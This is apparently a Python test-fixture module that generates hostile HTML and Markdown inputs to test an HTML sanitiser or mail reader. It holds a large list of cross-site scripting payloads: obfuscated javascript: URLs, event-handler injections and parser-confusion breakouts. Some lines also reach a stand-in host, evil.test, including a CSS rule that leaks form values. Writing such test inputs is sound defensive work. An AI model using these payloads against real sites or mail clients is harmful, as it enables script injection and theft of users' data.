# ruff: noqa: E501 - a payload is one line
"""Hostile HTML: what published holes of mail readers and sanitisers were made of, and their combinations.

Rows 20 to 23 and 28 of the security gauntlet. `alert(1)` and `//evil.test` stand for any script and any server.
"""

from itertools import product

_RUN = "alert(1)"
_JS = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "&#106;avascript:alert(1)", "&#x6A&#x61vascript:alert(1)", "javascript&colon;alert(1)", "java&Tab;script:alert(1)",
    "\x01javascript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "javascript&#58;alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>", "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)", "//evil.test/x", "\\\\evil.test/x", "/\\evil.test", "https:evil.test", "https:\\\\evil.test",
    "../logout", "/api/v1/tickets/1?close", "?x", "#x", "file:///etc/passwd", "blob:https://evil.test/1", "ftp://evil.test", "cid:x",
]  # fmt: skip
_URL_PLACES = [
    '<a href="{}">x</a>', '<img src="{}">', '<img srcset="{} 1x">', '<img lowsrc="{}">', '<img longdesc="{}">', '<a ping="{}" href="{}">x</a>',
    '<table background="{}"><tr><td background="{}">x</table>', '<body background="{}">x', '<iframe src="{}"></iframe>', '<frame src="{}">',
    '<embed src="{}">', '<object data="{}"></object>', '<form action="{}"><button formaction="{}">x</button></form>', '<input type=image src="{}">',
    '<video poster="{}" src="{}"><source src="{}"></video>', '<audio src="{}">', '<link rel=stylesheet href="{}">', '<base href="{}">',
    '<meta http-equiv=refresh content="0;url={}">', '<svg><image href="{}" xlink:href="{}"/></svg>', '<svg><use href="{}"/></svg>',
    '<svg><a xlink:href="{}">x</a></svg>', '<math href="{}">x</math>', '<blockquote cite="{}">x</blockquote>', '<q cite="{}">x</q>',
    '<img data-remote="{}">', '<div style="background:url({})">x</div>', "<style>@import '{}'; b {{ background: url({}) }}</style>",
    '<picture><source srcset="{}"><img src="{}"></picture>', '<area href="{}">', '<isindex action="{}">', '<applet codebase="{}">',
]  # fmt: skip
_HANDLERS = [
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onpointerenter",
    "onanimationstart",
    "onbegin",
    "ONERROR",
]
_TAGS = ["img", "svg", "body", "b", "a", "details open", "video", "marquee", "input autofocus", "p"]
_BREAKS = [
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1)//<</script>", "<script>alert(1)", "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>", "<scr\x00ipt>alert(1)</scr\x00ipt>", "<SCRIPT SRC=//evil.test/x></SCRIPT>", "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=alert(1)//", "<img src=`x`onerror=alert(1)>", "<img src='x'onerror='alert(1)'>", '"><img src=x onerror=alert(1)>',
    "<!--<img src=x onerror=alert(1)>-->", "<!--><img src=x onerror=alert(1)>-->", "<!---!><img src=x onerror=alert(1)>-->",
    "<!--x--!><img src=x onerror=alert(1)>-->", "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml <img src=x onerror=alert(1)> ?>",
    "<!DOCTYPE x [<!ENTITY y '<img src=x onerror=alert(1)>'>]>&y;", "</<img src=x onerror=alert(1)>", "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)></textarea>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>", "<iframe><p title='</iframe><img src=x onerror=alert(1)>'>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>", "<template><img src=x onerror=alert(1)></template>",
    "<style><p title='</style><img src=x onerror=alert(1)>'>", "<plaintext><img src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<svg><foreignObject><math><mi></foreignObject><iframe srcdoc='<script>alert(1)</script>'>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=alert(1)>\">",
    "<p><table><b><style><a title='</style><img src=x onerror=alert(1)>'>", "<table><td><a><img src=x onerror=alert(1)></table>",
    "<a title=\"<img src=x onerror=alert(1)>\">x</a>", "<a title='&lt;script&gt;alert(1)&lt;/script&gt;'>x</a>", "&lt;img src=x onerror=alert(1)&gt;",
    "<div id=csrf class=admin name=x contenteditable tabindex=1 accesskey=x data-x=1 is=x slot=x>x</div>", "<input name=csrfmiddlewaretoken value=x>",
    "<meta name=referrer content=unsafe-url>", "<dialog open><form method=dialog>x</form></dialog>", "<portal src=//evil.test></portal>",
    "<div style='position:fixed;inset:0;background:red'>x</div>", "<div style=\"width:expression(alert(1))\">x</div>", "<b style='x:\\75rl(//evil.test)'>x",
    "<style>input[value^=a]{background:url(//evil.test/a)}</style>", "<link rel=prefetch href=//evil.test>", "<link rel=dns-prefetch href=//evil.test>",
    "<img src=x:alert(1) onerror=eval(src)>", "<img src=\"https://evil.test/a.png\" loading=eager fetchpriority=high crossorigin usemap=#m ismap>",
    "<font color=red face=x size=7>x</font>", "<img width=99999999 height=1e9 src=cid:x>", "<ol start='1;alert(1)'><li value=3 type=a>x</ol>",
    "<a href=https://ok.test target=_top rel=opener>x</a>", "<a href='https://user:pw@evil.test/'>x</a>", "\u2028<img src=x onerror=alert(1)>", "<ſcript>alert(1)</ſcript>",
    "<img src=x onerror\x0b=alert(1)>", "<img src=x onerror\x0c=alert(1)>", "<a\x0bhref='javascript:alert(1)'>x</a>", "<a/href='javascript:alert(1)'>x</a>",
]  # fmt: skip

PAYLOADS: list[str] = [
    *(place.replace("{}", url) for place, url in product(_URL_PLACES, _JS)),
    *(f"<{tag} src=x {handler}={_RUN}>x" for tag, handler in product(_TAGS, _HANDLERS)),
    *(f"<{tag} x='>' {handler}='{_RUN}'>x" for tag, handler in product(_TAGS, _HANDLERS)),
    *_BREAKS,
]
MARKDOWN: list[str] = [*(f"[x]({url})" for url in _JS), *(f"[x](<{url}>)" for url in _JS), *(f"![x]({url})" for url in _JS),
                       *(f"[x]: {url}\n\n[x]" for url in _JS), *(f"<{url}>" for url in _JS), *_BREAKS]  # fmt: skip
